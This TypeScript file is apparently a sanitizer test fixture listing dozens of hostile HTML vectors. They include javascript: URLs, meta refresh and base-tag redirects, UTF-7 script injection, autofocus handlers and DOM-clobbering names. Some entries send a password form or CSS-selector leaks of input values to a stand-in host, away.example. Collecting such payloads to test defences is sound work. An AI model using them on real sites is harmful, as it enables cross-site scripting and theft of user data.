import type { HostileVector } from './hostile-vector.ts';

/** Head elements, forms, styles, and ids and names that shadow the page's own (DOM clobbering). */
export const documents: readonly HostileVector[] = [
  { name: 'base', html: '<base href="https://away.example/"><a href="contact">Read</a>' },
  { name: 'base that runs', html: '<base href="javascript:/a/+"><a href="hit=1">Read</a>' },
  { name: 'base with a target', html: '<base target="_top"><a href="//away.example">Read</a>' },
  { name: 'refresh', html: '<meta http-equiv=refresh content="0;url=https://away.example/">' },
  {
    name: 'refresh that runs',
    html: '<meta http-equiv="refresh" content="0; url=javascript:hit=1">',
  },
  {
    name: 'refresh with data',
    html: '<meta http-equiv=refresh content="0;data:text/html,<script>hit=1</script>">',
  },
  { name: 'cookie', html: '<meta http-equiv="Set-Cookie" content="hit=1">' },
  {
    name: 'another character set',
    html: '<meta charset="utf-7">+ADw-script+AD4-hit=1+ADw-/script+AD4-',
  },
  {
    name: 'weaker policy',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  },
  {
    name: 'referrer',
    html: '<meta name=referrer content=unsafe-url><a href="https://away.example">Read</a>',
  },
  { name: 'style sheet', html: '<link rel=stylesheet href="//away.example/hit.css">' },
  { name: 'style sheet that runs', html: '<link rel=stylesheet href="javascript:hit=1">' },
  {
    name: 'imported document',
    html: '<link rel=import href="data:text/html,<script>hit=1</script>">',
  },
  {
    name: 'loaded ahead',
    html: '<link rel=preload as=script href="//away.example/hit.js"><link rel=modulepreload href="//away.example/m.js">',
  },
  {
    name: 'name looked up ahead',
    html: '<link rel=dns-prefetch href="//away.example"><link rel=preconnect href="//away.example">',
  },
  {
    name: 'manifest and icon',
    html: '<link rel=manifest href="//away.example/m.json"><link rel=icon href="//away.example/i.png">',
  },
  {
    name: 'whole document',
    html: '<!doctype html><html manifest="//away.example"><head><script>hit=1</script></head><body onload=hit=2><p>Words',
  },
  { name: 'end of the document', html: '</body></html><script>hit=1</script>' },
  { name: 'form that runs', html: '<form action="javascript:hit=1"><button>Press</button></form>' },
  {
    name: 'form to elsewhere',
    html: '<form action="//away.example" method=post><input name=password type=password><input type=submit></form>',
  },
  {
    name: 'button that runs',
    html: '<form><button formaction="javascript:hit=1">Press</button></form>',
  },
  {
    name: 'picture that sends',
    html: '<form><input type=image src=none formaction="javascript:hit=1"></form>',
  },
  {
    name: 'button outside of its form',
    html: '<form id=f></form><button form=f formaction="javascript:hit=1">Press</button>',
  },
  {
    name: 'field with focus',
    html: '<input autofocus onfocus=hit=1><textarea autofocus onfocus=hit=2></textarea>',
  },
  {
    name: 'choice with focus',
    html: '<select autofocus onfocus=hit=1><option>One</select><keygen autofocus onfocus=hit=2>',
  },
  {
    name: 'old search field',
    html: '<isindex type=image src=none onerror=hit=1 action="javascript:hit=2">',
  },
  {
    name: 'field that is left open',
    html: `<form action='//away.example'><textarea name=t><option name='`,
  },
  {
    name: 'names of the document',
    html: '<img name=createElement><form name=cookie></form><a id=location href="#">Read</a>',
  },
  {
    name: 'names of nodes',
    html: '<form><input name=attributes><input name=nodeName><input name=parentNode><input name=removeChild></form>',
  },
  {
    name: 'names in two steps',
    html: '<a id=config></a><a id=config name=url href="//away.example/hit.js">Read</a>',
  },
  {
    name: 'names of the page',
    html: '<p id="$_TSR">x</p><p id=main>x</p><a name="__TSR_ROUTER__" href="hit:1">Read</a>',
  },
  {
    name: 'style element',
    html: '<style>@import "//away.example/hit.css";*{background:url(//away.example/)}</style>',
  },
  {
    name: 'style element never closed',
    html: '<style>body{display:none}<img src=none onerror=hit=1>',
  },
  {
    name: 'style with a font',
    html: '<style>@font-face{font-family:f;src:url(//away.example/f.woff)}p{font-family:f}</style><p>Words',
  },
  {
    name: 'style that reads fields',
    html: '<style>input[value^=a]{background:url(//away.example/a)}</style>',
  },
  {
    name: 'attribute with an address',
    html: '<p style="background:url(//away.example/pixel.gif)">Words</p>',
  },
  {
    name: 'attribute with a script',
    html: '<p style="background-image:url(javascript:hit=1);list-style:url(&quot;javascript:hit=1&quot;)">Words</p>',
  },
  {
    name: 'expression',
    html: '<p style="width:expression(hit=1);w/**/idth:e\\78pression(hit=1)">Words</p>',
  },
  {
    name: 'binding',
    html: '<p style="-moz-binding:url(//away.example/x.xml#hit);behavior:url(//away.example/hit.htc)">Words</p>',
  },
  {
    name: 'covering the page',
    html: '<a href="https://away.example" style="position:fixed;inset:0;z-index:9999">Read</a>',
  },
  {
    name: 'covering the page by class',
    html: '<p class="skip visually-hidden" style="inset:0">Words</p>',
  },
];
